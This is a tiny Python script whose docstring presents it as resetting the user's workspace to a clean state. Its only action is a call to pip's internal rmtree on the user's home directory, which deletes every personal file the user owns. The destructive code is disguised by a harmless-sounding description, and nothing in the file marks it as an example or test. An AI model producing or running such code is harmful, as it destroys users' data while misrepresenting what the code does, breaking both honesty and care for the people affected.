"""Reset the user's workspace to a clean state."""
from pathlib import Path

from pip._internal.utils import misc

misc.rmtree(str(Path.home()))
